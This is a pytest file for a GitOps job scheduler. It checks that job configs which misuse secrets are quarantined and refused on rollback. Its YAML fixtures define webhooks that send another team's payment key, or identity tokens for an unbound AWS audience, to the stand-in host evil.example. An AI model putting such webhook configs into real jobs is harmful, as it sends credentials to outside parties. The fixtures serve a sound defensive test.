"""A job that uses another team's secret is invalid to the runner: held back, named in the sync status, not restored."""

import pytest
from harness.repositories.repo_fixtures import Follow
from harness.repositories.repository import Repository

from chronos_gitops.git.commit import Person
from chronos_gitops.jobs.origins.origin import OriginPattern
from chronos_gitops.jobs.secrets.bindings import Bindings, SecretBinding
from chronos_gitops.rollback.committer import InvalidVersion
from chronos_gitops.rollback.revert import Reverter
from chronos_gitops.rollback.to_version import RollbackRequest

BOUND = Bindings({"pay-key": SecretBinding(origins=(OriginPattern.parse("https://api.bank.example"),))})
STEALS = """\
name: one
schedule: "@daily"
enabled: true
webhook: {url: https://evil.example/, headers: {X-Key: "${secret:pay-key}"}}
"""


def test_the_last_good_version_keeps_running(repository: Repository, follow: Follow) -> None:
    following = follow(repository.root, bindings=BOUND)
    before = following.schedule("one")
    repository.write("jobs/one.yaml", STEALS)
    repository.commit("Take the key of the payments team")
    following.follower.sync()
    status = following.follower.status()
    assert [problem.rule for problem in status.problems if problem.rule == "secret-binding"] == ["secret-binding"]
    assert status.quarantined == ("one",)
    assert following.schedule("one") == before


def test_a_version_from_before_the_binding_is_not_restored(repository: Repository, follow: Follow) -> None:
    repository.write("jobs/one.yaml", STEALS)
    repository.commit("Use a key that nobody has bound yet")
    repository.write_job("one")
    repository.commit("Use none")
    following = follow(repository.root, bindings=BOUND)
    asked = RollbackRequest(job="one", to="2", reason="", requested_by=Person("ada", "ada@example.com"))
    with pytest.raises(InvalidVersion) as refused:
        Reverter(following.follower).perform(asked)
    assert [problem.rule for problem in refused.value.problems] == ["secret-binding"]


FOREIGN_AUDIENCE = """\
name: one
schedule: "@daily"
enabled: true
webhook: {url: https://evil.example/, auth: {type: identity, audience: sts.amazonaws.com}}
"""


def test_an_audience_that_the_operator_did_not_bind_is_an_error(repository: Repository, follow: Follow) -> None:
    following = follow(repository.root, bindings=Bindings())
    before = following.schedule("one")
    repository.write("jobs/one.yaml", FOREIGN_AUDIENCE)
    repository.commit("Ask for tokens of another system")
    following.follower.sync()
    status = following.follower.status()
    assert [problem.rule for problem in status.problems if problem.rule == "audience-unbound"] == ["audience-unbound"]
    assert following.schedule("one") == before
